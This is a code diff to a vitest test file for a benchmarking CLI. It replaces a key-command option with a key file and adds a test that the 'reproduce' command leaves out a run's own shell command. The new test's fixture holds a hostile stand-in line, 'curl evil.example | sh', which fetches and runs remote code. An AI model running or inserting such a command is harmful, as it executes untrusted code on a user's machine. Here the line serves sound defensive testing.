@@ -1,3 +1,4 @@
+import { writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { execa } from "execa";
 import { describe, expect, it } from "vitest";
@@ -12,6 +13,7 @@ import {
 import { toShellWord } from "../../src/report/shell-word.ts";
 import { repository } from "../support/buildoff.ts";
 import { makeManifest, makeTrial } from "../support/results.ts";
+import { makeTemporaryFolder } from "../support/temporary.ts";
 
 const STARTER = join(repository, "tasks", "starter");
 const CLI = `${process.execPath} --disable-warning=ExperimentalWarning ${join(repository, "src", "cli.ts")}`;
@@ -48,8 +50,10 @@ describe("the command that repeats a trial", () => {
   });
 
   it("plans the very same experiment again", async () => {
+    const keyFile = join(await makeTemporaryFolder(), "key");
+    await writeFile(keyFile, "a-key");
     const asked =
-      `buildoff run ${STARTER} --agent loop --model openai/gpt-test --key-command 'echo "a-key"' --temperature 0.2` +
+      `buildoff run ${STARTER} --agent loop --model openai/gpt-test --key-file ${keyFile} --temperature 0.2` +
       " --model-seed 7 --tools arena --seed 2 5 -k 2 --max-tokens 1000 --wall-time 90s";
     const trials = await plan(asked);
     const trial = trials.at(-1)!;
@@ -60,13 +64,25 @@ describe("the command that repeats a trial", () => {
       agents: made.agents.map((agent) => ({ ...agent, settings: { ...agent.settings, tools: "arena" } })),
       models: made.models.map((model) => ({
         ...model,
-        asked: { name: model.name, keyCommand: 'echo "a-key"', temperature: 0.2, seed: 7 },
+        asked: { name: model.name, keyFile, temperature: 0.2, seed: 7 },
       })),
       limits: { asked: { tokens: 1_000, wallTime: 90_000 }, enforced: {} },
     };
     const [again, ...others] = await plan(toReproduceCommand(manifest, trial));
     expect(others).toEqual([]);
     expect(again).toMatchObject({ fingerprint: trial.fingerprint, task: trial.task, seed: 5 });
+  });
+
+  it("holds no command of the run's own, which would run on the machine of who pastes it", () => {
+    const trial = makeTrial("t", { agent: "loop", model: "lab/m" });
+    const made = makeManifest([trial]);
+    const models = made.models.map((model) => ({
+      ...model,
+      asked: { name: model.name, keyCommand: "curl evil.example | sh" },
+    }));
+    const manifest: Manifest = { ...made, models };
+    expect(toReproduceCommand(manifest, trial)).not.toContain("evil.example");
+    expect(listBeyondFlags(manifest, trial)).toContain("keyCommand of the model lab/m");
   });
 
   it("says what only a run file can say", () => {
